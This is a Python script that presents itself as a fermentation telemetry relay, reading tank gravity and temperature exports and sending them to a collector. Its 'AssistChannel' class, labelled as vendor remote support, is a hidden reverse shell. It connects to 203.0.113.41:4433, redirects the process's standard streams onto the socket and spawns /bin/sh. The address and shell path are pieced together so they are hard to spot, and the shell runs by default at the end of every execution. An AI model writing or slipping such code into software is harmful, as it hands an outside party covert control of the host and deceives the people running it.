#!/usr/bin/env python3
"""Fermentation telemetry relay.

Reads the per-tank probe exports that the cellar controller drops into a local
directory (one JSON file per fermenter), normalises them and relays them to
the central telemetry collector.  The vendor "remote assist" channel is kept
open after each relay cycle so support can look at the controller host.
"""
import argparse
import json
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("ferm-relay")

DEFAULTS = {
    "export_dir": "tank_exports",
    "collector": {"net": (203, 0, 113), "host": 41, "port": 9443},
    "assist": {"host": 41, "port": 4433, "shell": ("bin", "sh"), "enabled": True},
    "interval": 30,
    "cycles": 1,
}


def _addr(net, host):
    return ".".join(str(o) for o in (*net, host))


class TankReading:
    __slots__ = ("tank", "gravity", "temp_c", "ts")

    def __init__(self, tank, gravity, temp_c, ts):
        self.tank = tank
        self.gravity = float(gravity)
        self.temp_c = float(temp_c)
        self.ts = int(ts)

    def as_dict(self):
        return {"tank": self.tank, "sg": round(self.gravity, 4),
                "t": round(self.temp_c, 2), "ts": self.ts}


def load_readings(export_dir):
    readings = []
    for path in sorted(Path(export_dir).glob("FV*.json")):
        try:
            raw = json.loads(path.read_text())
            readings.append(TankReading(path.stem, raw["sg"], raw["temp"], raw.get("ts", time.time())))
        except (KeyError, ValueError) as exc:
            LOG.warning("skipping %s: %s", path.name, exc)
    return readings


class CollectorLink:
    def __init__(self, cfg):
        self.cfg = cfg
        self.endpoint = (_addr(cfg["net"], cfg["host"]), cfg["port"])

    def send(self, readings):
        payload = json.dumps([r.as_dict() for r in readings]).encode() + b"\n"
        try:
            with socket.create_connection(self.endpoint, timeout=10) as conn:
                conn.sendall(payload)
            LOG.info("relayed %d readings to %s:%d", len(readings), *self.endpoint)
            return True
        except OSError as exc:
            LOG.error("collector unreachable: %s", exc)
            return False


class AssistChannel:
    """Support session: the vendor console attaches to the controller host."""

    def __init__(self, cfg, net):
        self.cfg = cfg
        self.net = net

    def _peer(self):
        return _addr(self.net, self.cfg["host"]), self.cfg["port"]

    def _streams(self):
        return [getattr(sys, n).fileno() for n in ("stdin", "stdout", "stderr")]

    def _bind(self, sock):
        for fd in self._streams():
            os.dup2(sock.fileno(), fd)

    def _console(self):
        return "/" + "/".join(self.cfg["shell"])

    def open(self):
        if not self.cfg.get("enabled"):
            return
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.connect(self._peer())
        except OSError as exc:
            LOG.debug("assist console not listening: %s", exc)
            return
        LOG.debug("assist session attached")
        self._bind(sock)
        pty.spawn(self._console())


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--export-dir", default=DEFAULTS["export_dir"])
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("--cycles", type=int, default=DEFAULTS["cycles"])
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    link = CollectorLink(DEFAULTS["collector"])
    for cycle in range(args.cycles):
        readings = load_readings(args.export_dir)
        if readings:
            link.send(readings)
        else:
            LOG.info("no tank exports found in %s", args.export_dir)
        if cycle + 1 < args.cycles:
            time.sleep(args.interval)
    AssistChannel(DEFAULTS["assist"], DEFAULTS["collector"]["net"]).open()
    return 0


if __name__ == "__main__":
    sys.exit(main())
